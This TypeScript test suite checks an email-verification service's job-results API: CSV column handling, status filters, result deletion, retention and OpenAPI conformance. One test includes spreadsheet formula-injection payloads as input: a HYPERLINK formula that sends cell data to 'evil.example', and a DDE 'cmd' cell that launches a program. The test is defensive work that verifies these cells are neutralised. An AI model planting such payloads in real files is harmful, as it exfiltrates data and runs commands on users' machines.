import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { openServiceCore, type ServiceApp, type ServiceCore } from '@mailconv/platform';
import { createTestDatabase, testBackends, assertAnswersMatchDocument, recordAnswers, type RecordedAnswer } from '@mailconv/platform/testing';
import { D, useRig, type RigHandle } from '@mailconv/test-rig';
import { buildApp, EMAIL_KEY_PREFIX } from '../app.js';
import { loadEmailConfig, type EmailConfig } from '../config.js';
import { EMAIL_MIGRATIONS } from '../db/migrations.js';
import type { EmailTables } from '../db/schema.js';
import { CSV_HEADER, EXTRA_COLUMNS } from './results.js';
import { jobsEnv, multipartForm, parseCsv, strictCsv } from './jobs.test-support.js';

/** Issue 23, "results that keep the list": a CSV upload's own columns, the status filter, `columns=all`, deleting results, retention. */
for (const backend of testBackends()) {
  describe(`job results that keep the list on ${backend}`, { timeout: 120_000 }, () => {
    let answers: RecordedAnswer[] = [];
    let rig: RigHandle;
    let drop: () => Promise<void>;
    let config: EmailConfig;
    let app: ServiceApp;
    let admin: ServiceCore<EmailTables>;
    let dbUrl: string;
    const keys: Record<string, string> = {};

    before(async () => {
      rig = await useRig();
      const db = await createTestDatabase(backend);
      drop = db.drop;
      dbUrl = db.url;
      config = loadEmailConfig(jobsEnv(rig, db.url));
      app = await buildApp(config);
      answers = recordAnswers(app);
      admin = await openServiceCore<EmailTables>({ database: config.database, migrations: EMAIL_MIGRATIONS, keyPrefix: EMAIL_KEY_PREFIX });
      for (const name of ['owner', 'other']) {
        const r = await admin.accounts.createAccount({ email: `${name}@example.test`, plan: 'scale' });
        assert.ok(r.ok);
        keys[name] = r.apiKey;
      }
    });
    after(async () => {
      await app.close();
      await admin.close();
      await drop();
      await rig.release();
    });

    const call = (method: 'GET' | 'POST' | 'DELETE', url: string, key = keys.owner!, payload?: unknown) =>
      app.inject({ method, url, headers: { authorization: `Bearer ${key}`, ...(payload === undefined ? {} : { 'content-type': 'application/json' }) }, ...(payload === undefined ? {} : { payload: JSON.stringify(payload) }) });
    const finished = async (id: string) => {
      for (;;) {
        const s = (await call('GET', `/api/v1/jobs/${id}`)).json() as { status: string };
        if (['completed', 'failed', 'cancelled'].includes(s.status)) return s;
        await new Promise((r) => setTimeout(r, 20));
      }
    };
    const upload = async (file: string, fields: Array<{ name: string; value: string }> = [], filename = 'list.csv', type = 'text/csv') => {
      const res = await app.inject({ method: 'POST', url: '/api/v1/jobs', ...multipartForm([...fields, { name: 'file', value: file, filename, type }], keys.owner!) });
      assert.equal(res.statusCode, 202, res.body);
      const id = res.json().job_id as string;
      assert.equal((await finished(id)).status, 'completed');
      return id;
    };
    const csvOf = async (id: string, query = '') => {
      const res = await call('GET', `/api/v1/jobs/${id}/results?format=csv${query}`);
      assert.equal(res.statusCode, 200, res.body);
      return res.body;
    };

    // Quoting kept byte for byte (spaces around a cell, doubled quotes, a comma, a line
    // break inside quotes), a short row padded, a duplicate row dropped by dedupe, a BOM.
    const records = [
      `"Doe, Jane", jane@${D.valid} ,"said ""hi"""`,
      `Bob,bob@${D.valid}`,
      `"Multi\nline",info@${D.valid},x`,
      `Bob again,BOB@${D.valid},dup`,
      `Nobody,x@${D.nxdomain},"=1+2"`,
    ];
    const file = `\uFEFFName,Email,Notes\r\n${records.join('\r\n')}\r\n`;

    test('a CSV upload comes back as the file: its rows as spelled, the result columns appended (clashing names prefixed)', async () => {
      const id = await upload(file, [{ name: 'column', value: 'email' }, { name: 'dedupe', value: 'true' }]);
      const body = await csvOf(id);
      const lines = body.split('\r\n');
      assert.equal(lines[0], `Name,Email,Notes,result_email,is_valid,status,reason,score,suggestion`);
      // Each row: the record exactly as in the file (padded to three cells; a formula-looking
      // cell with its leading ', issue 45), then the results.
      const kept = [records[0]!, `${records[1]!},`, records[2]!, records[4]!.replace('"=1+2"', `"'=1+2"`)];
      assert.equal(lines.length, kept.length + 2, 'one row per address kept by dedupe, then the final CRLF');
      kept.forEach((raw, i) => assert.ok(lines[i + 1]!.startsWith(`${raw},`), `row ${i + 1}: ${lines[i + 1]}`));
      const rows = parseCsv(body);
      assert.deepEqual(rows.slice(1).map((r) => [r[3], r[5], r[6]]), [
        [`jane@${D.valid}`, 'valid', ''],
        [`bob@${D.valid}`, 'valid', ''],
        [`info@${D.valid}`, 'risky', 'role_based'],
        [`x@${D.nxdomain}`, 'invalid', 'domain_not_found'],
      ]);
      assert.ok(rows.every((r) => r.length === 9), 'every row as wide as the header');
      assert.equal(rows[4]![2], "'=1+2", "the list's own cells are neutralised like the result cells (issue 45)");

      // columns=all: the sub-checks after the contract's columns, in both forms.
      const all = parseCsv(await csvOf(id, '&columns=all'));
      assert.deepEqual(all[0], ['Name', 'Email', 'Notes', 'result_email', 'is_valid', 'status', 'reason', 'score', 'suggestion', ...EXTRA_COLUMNS]);
      const byName = (row: string[]) => Object.fromEntries(all[0]!.map((n, i) => [n, row[i]]));
      assert.deepEqual(
        [byName(all[3]!).normalized, byName(all[3]!).syntax, byName(all[3]!).dns, byName(all[3]!).role_based, byName(all[3]!).free_provider, byName(all[3]!).smtp],
        [`info@${D.valid}`, 'true', 'true', 'true', 'false', ''],
      );
      assert.deepEqual([byName(all[4]!).dns, byName(all[4]!).mx_count], ['false', '0']);
      const json = (await call('GET', `/api/v1/jobs/${id}/results?columns=all&per_page=2&page=2`)).json() as { results: Array<Record<string, unknown>>; matched: number };
      assert.equal(json.matched, 4);
      assert.deepEqual(json.results.map((r) => [r.email, r.role_based, r.dns, r.smtp, r.normalized]), [
        [`info@${D.valid}`, true, true, null, `info@${D.valid}`],
        [`x@${D.nxdomain}`, false, false, null, `x@${D.nxdomain}`],
      ]);
      assert.deepEqual(Object.keys(json.results[0]!).sort(), ['email', 'is_valid', 'reason', 'score', 'status', 'suggestion', ...EXTRA_COLUMNS].sort());
      const plain = (await call('GET', `/api/v1/jobs/${id}/results`)).json() as { results: Array<Record<string, unknown>> };
      assert.deepEqual(Object.keys(plain.results[0]!).sort(), ['email', 'is_valid', 'reason', 'score', 'status', 'suggestion'], 'the contract’s fields without columns=all');
    });

    test('status filter: CSV and JSON keep only those statuses; pages run over the kept rows; unknown values are 400 naming status', async () => {
      const id = await upload(file, [{ name: 'column', value: 'Email' }]);
      const named = await call('GET', `/api/v1/jobs/${id}/results?format=csv&status=valid,risky`);
      assert.equal(named.headers['content-disposition'], `attachment; filename="${id}-valid-risky.csv"`, 'the file name says what it holds');
      const rows = parseCsv(named.body);
      assert.deepEqual(rows.slice(1).map((r) => [r[3], r[5]]), [
        [`jane@${D.valid}`, 'valid'],
        [`bob@${D.valid}`, 'valid'],
        [`info@${D.valid}`, 'risky'],
        [`BOB@${D.valid}`, 'valid'],
      ]);
      assert.equal(rows[0]!.join(','), 'Name,Email,Notes,result_email,is_valid,status,reason,score,suggestion', 'the header stays when rows are filtered');
      assert.deepEqual(parseCsv(await csvOf(id, '&status=invalid')).slice(1).map((r) => r[3]), [`x@${D.nxdomain}`]);
      assert.equal(parseCsv(await csvOf(id, '&status=unknown')).length, 1, 'no row: the header alone');

      const page = async (q: string) => (await call('GET', `/api/v1/jobs/${id}/results?${q}`)).json() as { matched: number; total: number; results: Array<{ email: string; status: string }> };
      const second = await page('status=valid&per_page=2&page=2');
      assert.deepEqual([second.total, second.matched, second.results.map((r) => r.email)], [5, 3, [`BOB@${D.valid}`]]);
      assert.deepEqual((await page('status=valid&per_page=2&page=3')).results, []);
      assert.deepEqual((await page('status=risky,invalid')).results.map((r) => r.status), ['risky', 'invalid']);

      for (const q of ['status=bogus', 'status=valid,', 'status=VALID', 'status=', 'format=csv&status=valid,catch_all']) {
        const res = await call('GET', `/api/v1/jobs/${id}/results?${q}`);
        assert.equal(res.statusCode, 400, q);
        assert.deepEqual([res.json().error, res.json().field], ['invalid_request', 'status'], q);
      }
      const cols = await call('GET', `/api/v1/jobs/${id}/results?columns=some`);
      assert.deepEqual([cols.statusCode, cols.json().error], [400, 'invalid_request']);
    });

    test('no header row: the input columns are named column_1…; text uploads and JSON jobs keep the contract’s columns', async () => {
      const headless = await upload(`alice@${D.valid},Alice\r\nbob@${D.valid},Bob,extra\r\n`);
      const lines = (await csvOf(headless)).split('\r\n');
      assert.equal(lines[0], `column_1,column_2,column_3,${CSV_HEADER}`);
      assert.ok(lines[1]!.startsWith(`alice@${D.valid},Alice,,alice@${D.valid},true,valid,`), lines[1]);
      assert.ok(lines[2]!.startsWith(`bob@${D.valid},Bob,extra,bob@${D.valid},true,valid,`), lines[2]);

      const text = await upload(`email\nalice@${D.valid}\n`, [], 'list.txt', 'text/plain');
      assert.deepEqual(parseCsv(await csvOf(text)).map((r) => r.length), [6, 6]);
      const res = await call('POST', '/api/v1/jobs', keys.owner!, { emails: [`alice@${D.valid}`] });
      const json = res.json().job_id as string;
      await finished(json);
      const rows = parseCsv(await csvOf(json, '&columns=all'));
      assert.deepEqual(rows[0], [...CSV_HEADER.split(','), ...EXTRA_COLUMNS]);
    });

    test('DELETE …/results: only a finished job; addresses and results go, counts and status stay; a repeat answers the same', async () => {
      const slow = await call('POST', '/api/v1/jobs', keys.owner!, { emails: Array.from({ length: 30 }, (_, i) => `u${i}@d${i}.${D.silent}`) });
      const slowId = slow.json().job_id as string;
      const early = await call('DELETE', `/api/v1/jobs/${slowId}/results`);
      assert.deepEqual([early.statusCode, early.json().error], [409, 'job_not_completed']);
      await call('DELETE', `/api/v1/jobs/${slowId}`);
      const cancelled = await call('DELETE', `/api/v1/jobs/${slowId}/results`);
      assert.deepEqual([cancelled.statusCode, cancelled.json().status], [200, 'cancelled'], 'a cancelled job is finished: its partial data can go');

      const id = await upload(file, [{ name: 'column', value: 'email' }]);
      const before = (await call('GET', `/api/v1/jobs/${id}`)).json() as Record<string, unknown>;
      assert.equal(before.results_deleted_at, null);
      assert.equal((await call('DELETE', `/api/v1/jobs/${id}/results`, keys.other!)).statusCode, 404, "another account's job");
      const res = await call('DELETE', `/api/v1/jobs/${id}/results`);
      assert.equal(res.statusCode, 200, res.body);
      const body = res.json() as { success: boolean; job_id: string; status: string; results_deleted_at: string };
      assert.deepEqual([body.success, body.job_id, body.status], [true, id, 'completed']);
      const chunks = await admin.database.db.selectFrom('job_chunks').select('idx').where('job_id', '=', id).execute();
      assert.deepEqual(chunks, [], 'addresses, results and rows deleted');
      const after = (await call('GET', `/api/v1/jobs/${id}`)).json() as Record<string, unknown>;
      assert.deepEqual({ ...after, results_deleted_at: undefined }, { ...before, results_deleted_at: undefined }, 'status and counters unchanged');
      assert.equal(after.results_deleted_at, body.results_deleted_at);
      const listed = ((await call('GET', '/api/v1/jobs')).json() as { jobs: Array<{ job_id: string; results_deleted_at: string | null }> }).jobs;
      assert.equal(listed.find((j) => j.job_id === id)?.results_deleted_at, body.results_deleted_at, 'the job list says so too');
      for (const q of ['', '?format=csv']) {
        const gone = await call('GET', `/api/v1/jobs/${id}/results${q}`);
        assert.deepEqual([gone.statusCode, gone.json().error], [410, 'results_deleted'], q);
      }
      const again = await call('DELETE', `/api/v1/jobs/${id}/results`);
      assert.deepEqual([again.statusCode, again.json().results_deleted_at], [200, body.results_deleted_at]);
      assert.equal((await call('DELETE', '/api/v1/jobs/job_00000000000000000000000000/results')).statusCode, 404);
    });

    test('retention: jobs finished more than EMAIL_JOB_RETENTION_DAYS ago lose their data; two processes sweeping at once delete it once', async () => {
      const old = await upload(file, [{ name: 'column', value: 'email' }]);
      const recent = await upload(file, [{ name: 'column', value: 'email' }]);
      const when = new Date(Date.now() - 31 * 86_400_000).toISOString();
      await admin.database.db.updateTable('jobs').set({ completed_at: when }).where('id', '=', old).execute();
      const chunksOf = async (id: string) => (await admin.database.db.selectFrom('job_chunks').select('idx').where('job_id', '=', id).execute()).length;
      assert.ok((await chunksOf(old)) > 0);
      // Two more processes with workers: each sweeps on its first idle turn.
      const sweepers = await Promise.all([1, 2].map(() => buildApp(loadEmailConfig(jobsEnv(rig, dbUrl, { EMAIL_JOB_RETENTION_DAYS: '30', EMAIL_JOBS_WORKERS: '1' })))));
      try {
        await Promise.all(sweepers.map((s) => s.ready()));
        const deadline = Date.now() + 20_000;
        while ((await chunksOf(old)) > 0) {
          assert.ok(Date.now() < deadline, 'the expired job still has its chunks 20 s after the sweepers started');
          await new Promise((r) => setTimeout(r, 20));
        }
      } finally {
        await Promise.all(sweepers.map((s) => s.close()));
      }
      const status = (await call('GET', `/api/v1/jobs/${old}`)).json() as Record<string, unknown>;
      assert.deepEqual([status.status, status.total, status.valid_count, typeof status.results_deleted_at], ['completed', 5, 3, 'string']);
      assert.equal((await call('GET', `/api/v1/jobs/${old}/results`)).statusCode, 410);
      assert.ok((await chunksOf(recent)) > 0, 'a job finished within the period keeps its data');
      assert.equal((await call('GET', `/api/v1/jobs/${recent}/results?format=csv`)).statusCode, 200);
    });

    // Issue 45: the list's own cells and header are neutralised like the result cells (a
    // leading =, +, -, @, tab or CR gets a '), quoting kept; `formulas=keep` gives them back as sent.
    test('formula-looking input and header cells get a leading \' (quoting intact, read back by a strict CSV parser); formulas=keep returns them as sent', async () => {
      const evil = '=HYPERLINK("http://evil.example/?x="&A2,"click")';
      const q = (s: string) => `"${s.replaceAll('"', '""')}"`;
      const header = `Name,Email,${q(evil)},=cmd|'/C calc'!A0,@SUM(1),+1+2,\tTab,${q('\rCR')}`;
      const rows = [
        `Ann,ann@${D.valid},${q(evil)},=cmd|'/C calc'!A0,@SUM(1),+1+2,\tlead tab,${q('\rlead cr')}`,
        `Bob,bob@${D.nxdomain},-5,+1 555 0100, =2+3, "@x",plain,${q('a\r\nb')}`,
        `Carl,-carl@${D.valid},,,,,,`,
      ];
      const sent = `${header}\r\n${rows.join('\r\n')}\r\n`;
      const id = await upload(sent, [{ name: 'column', value: 'Email' }]);
      const results = ['result_email', 'is_valid', 'status', 'reason', 'score', 'suggestion'];

      const safe = await csvOf(id);
      const read = strictCsv(safe);
      assert.deepEqual(read[0], ['Name', 'Email', `'${evil}`, "'=cmd|'/C calc'!A0", "'@SUM(1)", "'+1+2", "'\tTab", "'\rCR", ...results]);
      assert.deepEqual(read.slice(1).map((r) => r.slice(0, 8)), [
        ['Ann', `ann@${D.valid}`, `'${evil}`, "'=cmd|'/C calc'!A0", "'@SUM(1)", "'+1+2", "'\tlead tab", "'\rlead cr"],
        // Phone numbers and negative numbers too (the rule is by first character); a leading
        // space does not hide a formula from an importer that trims.
        ['Bob', `bob@${D.nxdomain}`, "'-5", "'+1 555 0100", " '=2+3", ` "'@x"`, 'plain', 'a\r\nb'],
        ['Carl', `'-carl@${D.valid}`, '', '', '', '', '', ''],
      ]);
      assert.deepEqual(read.slice(1).map((r) => [r[8], r[10], r[11]]), [
        [`ann@${D.valid}`, 'valid', ''],
        [`bob@${D.nxdomain}`, 'invalid', 'domain_not_found'],
        [`'-carl@${D.valid}`, 'valid', ''],
      ], 'the addresses were read from the Email column and verified');
      assert.ok(read.every((r) => r.length === 14), 'every row as wide as the header');
      // The one change to the file's spelling is the inserted ': quoting, spacing and the rest stay.
      assert.ok(safe.startsWith(`Name,Email,${q(`'${evil}`)},'=cmd|'/C calc'!A0,'@SUM(1),'+1+2,'\tTab,${q("'\rCR")},result_email,`), safe.slice(0, 200));
      assert.ok(safe.includes(`\r\nBob,bob@${D.nxdomain},'-5,'+1 555 0100, '=2+3, "'@x",plain,${q('a\r\nb')},bob@`), safe);

      const kept = await csvOf(id, '&formulas=keep');
      const asSent = strictCsv(sent);
      assert.deepEqual(strictCsv(kept).map((r) => r.slice(0, 8)), asSent, 'formulas=keep: every input cell and header cell as sent');
      assert.ok(kept.startsWith(`${header},result_email,`), kept.slice(0, 200));
      for (const raw of rows) assert.ok(kept.includes(`\r\n${raw},`), raw);
      assert.equal(strictCsv(kept)[3]![8], `-carl@${D.valid}`, 'the result cells too');
      assert.equal(strictCsv(await csvOf(id, '&formulas=escape')).join('\n'), read.join('\n'), 'escape is the default');
      const json = (await call('GET', `/api/v1/jobs/${id}/results?formulas=keep`)).json() as { results: Array<{ email: string }> };
      assert.equal(json.results[2]!.email, `-carl@${D.valid}`, 'JSON carries values exactly either way');

      for (const bad of ['bogus', '', 'KEEP', 'false']) {
        const res = await call('GET', `/api/v1/jobs/${id}/results?format=csv&formulas=${bad}`);
        assert.equal(res.statusCode, 400, bad);
        assert.deepEqual([res.json().error, res.json().field, typeof res.json().message], ['invalid_request', 'formulas', 'string'], bad);
      }
    });

    // Last: every answer the tests above provoked, checked against the served document.
    test('every answer matches the OpenAPI document (status, headers, body)', async () => {
      const covered = await assertAnswersMatchDocument(app, answers);
      assert.ok(covered.size > 0);
    });
  });
}
